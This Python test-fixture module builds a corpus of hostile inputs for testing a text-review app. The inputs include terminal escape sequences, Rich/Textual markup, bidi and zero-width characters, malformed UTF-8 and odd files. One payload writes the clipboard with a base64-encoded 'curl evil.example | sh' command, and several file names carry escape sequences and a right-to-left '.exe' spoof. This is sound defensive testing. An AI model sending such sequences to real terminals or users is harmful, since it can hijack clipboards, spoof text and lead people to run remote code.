"""The hostile document corpus, built at test time (no large or odd files are committed).

Each case writes one folder: either two seed articles (Vietnamese pivot, French version) with a
payload injected into the French one, so it reaches a group, a row, a finding and the report;
or a seed next to one odd file (huge, binary, not a regular file). `build(case, folder)` writes
it; `CASES` lists every case by id. Used by tests/test_hostile_*.py and runnable by hand:
`python -m tests.data.hostile.corpus OUT` writes every case under OUT for manual poking.
"""

from __future__ import annotations

import base64
import os
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]
SEEDS = ROOT / "reviewer" / "seeds"
PIVOT = "000_459abd048ae6a802.txt"  # vi
VERSION = "002_9a23daeefc982262.txt"  # fr, the one that receives the payload

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

# Text that must never reach a terminal raw (each is a complete, working sequence).
PAYLOADS: dict[str, str] = {
    "osc0-title": f"{ESC}]0;PWNED title{BEL}",
    "osc52-clipboard": f"{ESC}]52;c;{base64.b64encode(b'curl evil.example | sh').decode()}{BEL}",
    "osc8-hyperlink": f"{ESC}]8;;https://evil.example/{ST}click here{ESC}]8;;{ST}",
    "csi-clear-screen": f"{ESC}[2J{ESC}[H{ESC}[31mred{ESC}[0m{ESC}[?1049h",
    "dcs": f"{ESC}P+q544e{ST}{ESC}P$qm{ST}",
    "c0-controls": "".join(chr(c) for c in range(1, 0x20) if c not in (0x0A, 0x0D)) + "\x7f",
    "c1-controls": "".join(chr(c) for c in range(0x80, 0xA0)) + "\x9b2J\x9d0;PWNED\x9c",
    "rich-markup": (
        "[link=https://evil.example]click[/link] [@click=app.quit]quit[/] [bold red]loud "
        "[/ [/bold] [on red]x \\[escaped] [b]unclosed"
    ),
    "textual-markup": "[@click=app.bell]ring[/] [$accent]var[/] $text {x} [reverse]",
    "bidi-overrides": "a\u202etxt.exe\u202c b\u202dltr\u202c c\u202aemb\u202c d\u202bemb\u202c",
    "bidi-isolates": "\u2066lri\u2069 \u2067rli\u2069 \u2068fsi\u2069 \u200e\u200f\u061c",
    "zero-width": "zero\u200bwidth\u200cnon\u200djoin\u2060wj\ufeffbom\u00adsoft\u180emvs",
    "line-separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix\x1cseven",
    "mixed-scripts": (
        "Putin (Путин) met 習近平, נתניהו and محمد in Астана with ΕΛΛΆΔΑ, हिन्दी, ไทย and 한국어"
    ),
    "rtl-arabic-hebrew": (
        "قال الرئيس توكاييف إن العلاقات مع روسيا استراتيجية. "
        "הנשיא טוקאייב אמר כי היחסים עם רוסיה אסטרטגיים. 2023 ١٢٣٤"
    ),
    "emoji-zwj-combining": (
        "👨\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈 👍🏽 🇰🇿🇷🇺 e\u0301 "
        "Z\u0337\u0322\u031bA\u0338\u0300L\u0334\u0301G\u0336\u0302O\u0335\u0303"
        + "x"
        + "\u0300" * 200
    ),
    "surrogate-like": "\ufffd\ufffe\uffff \U0010ffff \ue000 private",
    "long-word": "A" * 20000,
}


@dataclass(frozen=True)
class Case:
    id: str
    write: Callable[[Path], None]
    text_reaches_report: bool = False  # the payload sits in a grouped document's text
    payload: str = ""
    skipped: str = ""  # what the problem message says of the odd file, when it is skipped
    big: bool = False  # megabytes or 200,000 lines: run once, not in every variant


def _seed_pair(folder: Path, payload: str) -> None:
    """The Vietnamese seed and the French one with `payload` in a sentence and alone."""
    (folder / PIVOT).write_bytes((SEEDS / PIVOT).read_bytes())
    lines = (SEEDS / VERSION).read_text(encoding="utf-8").split("\n")
    lines[1] = lines[1].replace("Astana", f"Astana {payload}", 1)
    lines.insert(3, f"Une phrase ajoutée {payload} ici.")
    (folder / VERSION).write_text("\n".join(lines), encoding="utf-8")


def _with_seed(folder: Path) -> None:
    (folder / PIVOT).write_bytes((SEEDS / PIVOT).read_bytes())


def _raw(name: str, data: Callable[[], bytes]) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        _with_seed(folder)
        (folder / name).write_bytes(data())

    return write


def _directory(folder: Path) -> None:
    _with_seed(folder)
    (folder / "x.txt").mkdir()
    (folder / "x.txt" / "inner.txt").write_text("Inside a folder named x.txt.\n")


def _fifo(folder: Path) -> None:
    _with_seed(folder)
    os.mkfifo(folder / "x.txt")


def _hostile_names(folder: Path) -> None:
    """Payloads in file names: paths are printed by the text report and on stderr."""
    _with_seed(folder)
    for n, name in enumerate(
        (
            f"{ESC}]0;PWNED{BEL}",
            f"{ESC}[2J",
            "\u202etxt",
            "[bold]b[@click=app.quit]",
            "line\nbreak",
            "\x9b31m",
        )
    ):
        (folder / f"{n}-{name}.txt").write_text(
            f"Một câu ngắn số {n}. Câu thứ hai.\n", encoding="utf-8"
        )


def _non_utf8_name(folder: Path) -> None:
    """A file name that is not UTF-8: Python hands it over with lone surrogates."""
    _with_seed(folder)
    name = os.fsencode(folder) + b"/bad\xff\xfename.txt"
    with open(name, "wb") as handle:
        handle.write("Một câu ngắn. Câu thứ hai.\n".encode())


def _single_line(size: int) -> bytes:
    word = "Kazakhstan dialogue avec la Russie, "
    return (word * (size // len(word) + 1)).encode()[:size]


CASES: dict[str, Case] = {
    **{
        name: Case(name, lambda f, p=payload: _seed_pair(f, p), True, payload)
        for name, payload in PAYLOADS.items()
    },
    "nul-in-the-middle": Case(
        "nul-in-the-middle",
        _raw("nul.txt", lambda: b"Before the NUL.\x00After the NUL.\n"),
        skipped="nul.txt: binary",
    ),
    "invalid-utf8": Case(
        "invalid-utf8",
        _raw("bad.txt", lambda: b"Caf\xc3\xa9 \xff\xfe\xc3( \xe2\x82 \xf0\x9f\x98 broken.\n"),
    ),
    "overlong-utf8": Case(
        "overlong-utf8", _raw("over.txt", lambda: b"slash \xc0\xaf \xed\xa0\x80.\n")
    ),
    "one-5mb-line": Case(
        "one-5mb-line", _raw("big.txt", lambda: _single_line(5 * 1024 * 1024)), big=True
    ),
    "200k-one-word-lines": Case(
        "200k-one-word-lines", _raw("lines.txt", lambda: b"word\n" * 200_000), big=True
    ),
    "directory-named-x.txt": Case("directory-named-x.txt", _directory),
    "fifo-named-x.txt": Case("fifo-named-x.txt", _fifo, skipped="x.txt: a named pipe"),
    "hostile-file-names": Case("hostile-file-names", _hostile_names),
    "non-utf8-file-name": Case("non-utf8-file-name", _non_utf8_name),
}


def build_all(folder: Path, *, big: bool = True) -> Path:
    """Every case in one folder, for the app: the French seed holds every payload (one per
    line, after its third line), beside every odd file; `big=False` leaves out the
    multi-megabyte ones. Returns the folder."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / PIVOT).write_bytes((SEEDS / PIVOT).read_bytes())
    lines = (SEEDS / VERSION).read_text(encoding="utf-8").split("\n")
    for n, payload in enumerate(PAYLOADS.values()):
        lines.insert(3 + n, f"Phrase {n} {payload} ici.")
    (folder / VERSION).write_text("\n".join(lines), encoding="utf-8")
    for name, case in CASES.items():
        if case.text_reaches_report or (case.big and not big):
            continue
        sub = folder / name
        sub.mkdir()
        case.write(sub)
        (sub / PIVOT).unlink()  # one copy of the pivot is enough
    return folder


def build(case: str, folder: Path) -> Path:
    """Write `case` into `folder` (created); return the folder."""
    folder.mkdir(parents=True, exist_ok=True)
    CASES[case].write(folder)
    return folder


if __name__ == "__main__":  # pragma: no cover - a manual helper
    out = Path(sys.argv[1])
    for name in CASES:
        build(name, out / name)
    print(f"{len(CASES)} cases under {out}")
